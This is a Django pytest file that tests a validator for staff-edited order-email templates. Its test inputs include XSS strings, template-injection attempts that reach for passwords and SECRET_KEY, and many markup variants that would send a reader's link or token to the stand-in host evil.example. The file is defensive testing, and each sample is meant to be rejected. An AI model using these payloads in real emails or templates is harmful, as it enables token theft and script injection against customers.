"""Staff's own words for letters: checked, previewed, and never in an order's way."""

import re
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.template import Engine
from django.utils import translation

from shop.communication.event_type import CommunicationEventType
from shop.communication.letters import SECRET_EVENTS, Letter
from shop.communication.wording.engine import check, drawn
from shop.communication.wording.kinds import KINDS, PARTS, needed_in, variables_of
from shop.communication.wording.letters import words_with
from shop.communication.wording.originals import original
from shop.communication.wording.samples import sample_facts
from shop.communication.writing import write_letter
from tests.factories import a_buyer, a_product, zone_rates
from tests.shop.buying import a_guest_with, buy, only_order

pytestmark = pytest.mark.django_db
LANGUAGES = ("vi", "en")


def the_words(code: str = "ORDER_PAID", language: str = "vi", **parts: str) -> Any:
    row, _made = CommunicationEventType.objects.get_or_create(code=code, defaults={"name": code})
    for part, words in parts.items():
        row.set_source(part, language, words)
    row.save()
    return row


def a_letter(language: str = "vi") -> Letter:
    return write_letter(
        "ORDER_PAID", to="lan@example.com", context=sample_facts(language), language=language
    )


def flat(words: str) -> str:
    return " ".join(words.split())


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("code", KINDS)
def test_the_original_as_staff_see_it_draws_the_same_letter(code: str, language: str) -> None:
    facts = sample_facts(language)
    with translation.override(language):
        own = words_with(code, facts, None)
        row = CommunicationEventType(code=code)
        for part in PARTS:
            words = original(code, part, language)
            needed = needed_in(code, part)
            check(words, allowed=variables_of(code), needed=needed, is_html=part == "html")
            row.set_source(part, language, words)
        staffs = words_with(code, facts, row)
    assert staffs.subject == own.subject
    assert flat(staffs.text) == flat(own.text)
    assert flat(staffs.html) == flat(own.html)


@pytest.mark.parametrize("code", KINDS)
def test_the_samples_have_every_fact_of_every_letter(
    code: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from shop.communication.wording import engine

    for reader in (engine._HTML, engine._TEXT):
        monkeypatch.setattr(reader, "string_if_invalid", "NOWHERE")
    for part in PARTS:
        words = drawn(original(code, part, "vi"), sample_facts("vi"), is_html=part == "html")
        assert "NOWHERE" not in words


def test_what_staff_wrote_is_what_the_buyer_gets_in_their_language_only() -> None:
    the_words(subject="Tiền về rồi, đơn {{ order.number }}", text="Cảm ơn! {{ link }}")
    letter = a_letter()
    assert letter.subject == "Tiền về rồi, đơn PC-MAU-01"
    assert letter.text.startswith("Cảm ơn! http")
    assert "Nơi làm ra bắt đầu đóng gói" in letter.html
    assert "Cảm ơn!" not in a_letter("en").text
    the_words(language="en", subject="Money is here")
    assert a_letter("en").subject == "Money is here"


def test_html_of_staff_stands_in_the_shops_frame_and_keeps_what_people_typed_as_text() -> None:
    the_words(
        html='<p>Chào {{ order.shipping_address.full_name }}</p>{% letter_button "Xem" link %}'
    )
    facts = sample_facts("vi")
    facts["order"]["shipping_address"]["full_name"] = "<b>Lan</b>"
    letter = write_letter("ORDER_PAID", to="a@b.vn", context=facts, language="vi")
    assert "&lt;b&gt;Lan" in letter.html
    assert "<h1" in letter.html
    assert 'href="http' in letter.html


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("{% load static %} {{ link }}", "Không có thẻ {% load %}"),
        ('{% include "emails/base.html" %} {{ link }}', "Không có thẻ {% include %}"),
        ('{% extends "base.html" %} {{ link }}', "Không có thẻ {% extends %}"),
        ("{% debug %} {{ link }}", "Không có thẻ {% debug %}"),
        ("{{ link }} {{ order.user.password }}", "Thư này không có {{ order.user.password }}"),
        ("{{ link }} {{ settings.SECRET_KEY }}", "Thư này không có"),
        ("{% for x in order %}{{ x }}{% endfor %}{{ link }}", "Thư này không có"),
        ("{{ link|safe }}", "Mẫu viết chưa đúng"),
        ("{% if order.number %} {{ link }}", "Mẫu viết chưa đúng"),
        ("{{ link }", "Dấu {{ đứng lẻ"),
        ("{{ link }} Đơn {{ order.number", "Dấu {{ đứng lẻ"),
        ("{{ link }} order.number }}", "Dấu }} đứng lẻ"),
        ("{{ link }} {% if order", "Dấu {% đứng lẻ"),
        ("{{ link }} endif %}", "Dấu %} đứng lẻ"),
        ("Xin chào", "Thiếu {{ link }}"),
        ("{{ link }}<script>alert(1)</script>", "Thư không dùng được “<script”"),
        ('{{ link }}<img src=x onerror="x">', "Thư không dùng được"),
        ('{{ link }}<a href="javascript:x">x</a>', "Thư không dùng được"),
        ("{{ link }}" + "a" * 20_001, "dài quá"),
    ],
)
def test_what_a_letter_may_not_hold_is_refused_in_words(words: str, said: str) -> None:
    with pytest.raises(ValidationError, match=re.escape(said)):
        check(words, allowed=variables_of("ORDER_PAID"), needed=("link",), is_html=True)


HELD = variables_of("REVIEW_INVITATION") | variables_of("PRODUCT_ALERT")


@pytest.mark.parametrize(
    "words",
    [
        '<img src="https://evil.example/x.gif?t={{ link }}">',
        '<p style="background:url(https://evil.example/{{ link }})">x</p>',
        '<p style="background:\\75rl(x)">x</p>',
        '<td background="https://evil.example/x">x</td>',
        '<a href="https://evil.example/?t={{ link }}">x</a>',
        '<a href="https://evil.example/?t= {{ link }}">x</a>',
        '<a href="{{ link }}.evil.example/">x</a>',
        '<a href="{% if order.number %}https://evil.example/?{% endif %}{{ link }}">x</a>',
        "<a href='https://evil.example/?{{ link }}'>x</a>",
        "<a href=https://evil.example/?{{ link }}>x</a>",
        "<img src='https://evil.example/?",
        '<!-- <a href="{{ link }}">x</a>',
        "https://evil.example/?{{ link }}",
        "https://evil.example/?{{ title }}{{ link }}",
        "https://evil.example/?{% if title %} {% else %}{{ link }}{% endif %}",
        "https://evil.example/?{# #}{{ link }}",
        "https://evil.example/?{{ title|default:link }}",
        "https://evil.example/?{{ link|lower }}",
        "https://evil.example/?{{ goods }}",
        "{% for title in link %}{{ title }}{% endfor %}",
        "https://evil.example/?{% for title in goods %}{{ title }}{% endfor %}",
        "https://evil.example/?{% for item in goods %}{{ item.link }}{% endfor %}",
        '{% letter_button "x" link as title %}https://evil.example/?{{ title }}',
    ],
)
def test_no_link_of_a_reader_leaves_for_another_site(words: str) -> None:
    with pytest.raises(ValidationError):
        check(words, allowed=HELD, needed=(), is_html=True)
    # The text of a letter fetches nothing, and markup in it is text.
    if "<" not in words:
        with pytest.raises(ValidationError):
            check(words, allowed=HELD, needed=(), is_html=False)


@pytest.mark.parametrize(
    "words",
    [
        '<p style="margin:0 0 10px">Xem: {{ link }}</p>',
        '<p>{{ link }}</p><table width="100%"><tr><td align="center">x</td></tr></table>',
        '<a href="{{ link }}" style="color:#b23a26">Xem</a> <a href="tel:0204">gọi</a>',
        '<a href="{{ base_url }}/cau-chuyen/">Chuyện</a><br/>',
        '{% for item in goods %}<li><a href="{{ item.link }}">x</a></li>{% endfor %}',
        '{% if title %}{% letter_button "Xem" link %}{% endif %}',
    ],
)
def test_plain_markup_is_kept(words: str) -> None:
    check(words, allowed=HELD, needed=(), is_html=True)


def test_the_letter_that_opens_an_account_is_nobodys_to_word() -> None:
    assert not SECRET_EVENTS & set(KINDS)
    the_words("PASSWORD_RESET", html='<img src="https://evil.example/?{{ link }}">')
    facts = {"user": a_buyer(), "link": "https://cho.example/x"}
    letter = write_letter("PASSWORD_RESET", to="a@b.vn", context=facts, language="vi")
    assert "evil" not in letter.html


def test_words_kept_before_this_rule_carry_nothing_away() -> None:
    the_words(html='<img src="https://evil.example/x.gif?t={{ link }}">')
    assert "evil" not in a_letter().html


@pytest.mark.parametrize(
    "broken", ["{% if %}", "{{ order.user.password }}", "{% load i18n %}", " "]
)
def test_words_that_do_not_work_never_stop_an_order(broken: str, caplog: Any) -> None:
    the_words("ORDER_PLACED", subject=broken, text=broken, html=broken)
    zone_rates()
    buy(a_guest_with(a_product()))
    letter = Letter.objects.get(event_code="ORDER_PLACED")
    assert only_order().number in letter.subject
    assert "Cảm ơn bạn đã mua" in letter.text
    assert "<h1" in letter.html
    assert "do not work" in caplog.text


def test_the_engine_of_staff_knows_nothing_of_djangos_builtins() -> None:
    from shop.communication.wording.engine import _HTML

    assert isinstance(_HTML, Engine)
    known = {name for library in _HTML.template_builtins for name in library.tags}
    assert known == {"if", "for", "letter_button", "order_sums", "parcel_contents", "rest_due"}
    filters = {name for library in _HTML.template_builtins for name in library.filters}
    assert "safe" not in filters
